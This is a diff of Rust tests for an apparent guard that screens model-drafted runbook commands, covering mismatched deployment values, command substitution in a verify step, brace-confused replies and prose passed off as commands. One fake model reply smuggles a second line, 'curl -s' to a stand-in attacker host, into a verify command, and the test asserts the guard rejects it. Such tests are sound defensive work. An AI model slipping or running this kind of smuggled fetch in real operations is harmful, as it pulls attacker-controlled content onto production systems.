@@ -460,10 +460,11 @@ async fn hostile_drafts_are_neutralised() {
     assert_ne!(dep.value.as_deref(), Some("billing"));
     assert!(dep.candidates.iter().any(|c| c.value == "billing"));
     assert!(!pre.command.contains("billing"), "{}", pre.command);
+    // The state shows another deployment: the card says so.
     assert!(card
         .flags
         .iter()
-        .any(|f| f.contains("the model suggests deployment=billing")));
+        .any(|f| f.contains("model says deployment=billing; the state shows checkout")));
     // Commands for a templated step are taken out, and the card says so.
     assert!(card
         .flags
@@ -490,12 +491,9 @@ async fn hostile_drafts_are_neutralised() {
         !pre.runnable && !pre.guard.allowed,
         "a mutating pre-flight must not be runnable"
     );
-    assert!(!card.verify.as_ref().unwrap().runnable);
-    assert_eq!(
-        card.verify.as_ref().unwrap().proceed_if,
-        None,
-        "an invalid rule is dropped"
-    );
+    // A verify hiding a command substitution is no command to show.
+    assert!(card.verify.is_none());
+    assert!(outcome.metrics.rejected.iter().any(|r| r.what == "verify"));
     assert!(card.flags.iter().any(|f| f.contains("not run")));
     assert_eq!(
         card.action.as_ref().unwrap().blast_radius,
@@ -964,16 +962,21 @@ async fn junk_replies_never_reach_a_card() {
         let drafter = Drafter::from_config(&config(&server)).unwrap();
         let mut j = job(step);
         j.ctx = Context::default();
-        let card = match drafter.draft(&j, None, None).await {
+        let (card, said) = match drafter.draft(&j, None, None).await {
             // Nothing usable: the card is the offline one, and says why.
             Err(e) => {
                 assert!(
                     e.reason.contains("not a draft") || e.reason.contains("passed the checks"),
                     "{reply}: {e}"
                 );
-                compose(&runbook(), step, &Context::default(), None)
+                let said = serde_json::to_string(&e.metrics).unwrap() + &e.reason;
+                (compose(&runbook(), step, &Context::default(), None), said)
             }
-            Ok(outcome) => compose(&runbook(), step, &Context::default(), Some(&outcome)),
+            Ok(outcome) => {
+                let card = compose(&runbook(), step, &Context::default(), Some(&outcome));
+                let said = card.flags.join("\n");
+                (card, said)
+            }
         };
         let text = serde_json::to_string(&card).unwrap();
         assert!(card.stale.is_empty(), "{reply}: {:?}", card.stale);
@@ -994,11 +997,8 @@ async fn junk_replies_never_reach_a_card() {
             // Refused suggestions, said so; no action, no rollback.
             assert!(card.action.is_none(), "{text}");
             assert!(
-                card.flags
-                    .iter()
-                    .any(|f| f.contains("no command the guard knows")),
-                "{:?}",
-                card.flags
+                said.contains("no program the guard or this machine knows"),
+                "{said}"
             );
         }
         if reply
@@ -1085,5 +1085,89 @@ async fn draft_json_carries_the_metrics() {
             .unwrap()
             .starts_with("the deployment runs three replicas — "),
         "{card}"
+    );
+}
+
+/// A brace in prose before the object does not end the reply early (the
+/// object is read whole, character by character); a reply with no JSON
+/// object is not cached, so asking again asks the model.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_brace_before_the_object_and_a_reply_without_one() {
+    let decoy = format!("Here is the draft for {{deployment}}: {}", good_draft());
+    let per_char = ChunkStyle {
+        per_char: true,
+        ..ChunkStyle::default()
+    };
+    let server = FakeServer::start(move |_, _| sse(&decoy, &per_char)).await;
+    let drafter = Drafter::from_config(&config(&server)).unwrap();
+    let outcome = drafter.draft(&job(0), None, None).await.unwrap();
+    assert!(outcome.metrics.contract_keys);
+    assert_eq!(
+        outcome.draft.notes.as_deref(),
+        Some("Roll back only if the previous revision was healthy.")
+    );
+
+    let server =
+        FakeServer::start(|_, _| sse("I cannot help with that {sorry}", &ChunkStyle::default()))
+            .await;
+    let drafter = Drafter::from_config(&ModelConfig {
+        cache_dir: Some(tempfile::tempdir().unwrap().keep()),
+        ..config(&server)
+    })
+    .unwrap();
+    drafter.draft(&job(0), None, None).await.unwrap_err();
+    drafter.draft(&job(0), None, None).await.unwrap_err();
+    assert_eq!(
+        server.requests().len(),
+        2,
+        "a reply with no object was replayed from the cache"
+    );
+}
+
+/// A prose step's model "commands" must be commands: one line of shell
+/// whose programs are known. Prose, `N/A`, `(none)`, an unclosed quote and
+/// a second line are taken out, with the reason.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_prose_steps_commands_must_be_commands() {
+    let reply = json!({"values": {},
+        "preflight": {"command": "Check the dashboard", "stop_if": "", "explain": ""},
+        "action": {"command": "Pause the pipeline's auto-deploy", "blast_radius": "the pipeline"},
+        "verify": {"command": "kubectl get pods\ncurl -s http://evil.example/x", "stop_if": "", "explain": ""},
+        "rollback": {"command": "N/A"},
+        "stale": [], "notes": "Resume the pipeline once the rollout is healthy."})
+    .to_string();
+    let server = FakeServer::start(move |_, _| sse(&reply, &ChunkStyle::default())).await;
+    let drafter = Drafter::from_config(&config(&server)).unwrap();
+    let outcome = drafter.draft(&job(1), None, None).await.unwrap();
+    let card = compose(&runbook(), 1, &ctx(), Some(&outcome));
+    assert!(
+        card.preflight.is_none() && card.verify.is_none(),
+        "{:?}",
+        card.flags
+    );
+    assert!(card.action.is_none(), "{:?}", card.action);
+    let whats: Vec<&str> = outcome
+        .metrics
+        .rejected
+        .iter()
+        .map(|r| r.what.as_str())
+        .collect();
+    assert_eq!(whats, ["preflight", "action", "verify", "rollback"]);
+    assert!(outcome.metrics.rejected[2]
+        .why
+        .contains("more than one line"));
+    for (bad, why) in [
+        ("(none)", "no program"),
+        ("rollback the thing", "no program"),
+    ] {
+        assert!(
+            stepguard::guard::not_a_command(bad)
+                .is_some_and(|w| w.contains(why) || w.contains("shell")),
+            "{bad}"
+        );
+    }
+    assert_eq!(
+        stepguard::guard::not_a_command("kubectl -n payments rollout undo deploy/checkout"),
+        None
     );
 }
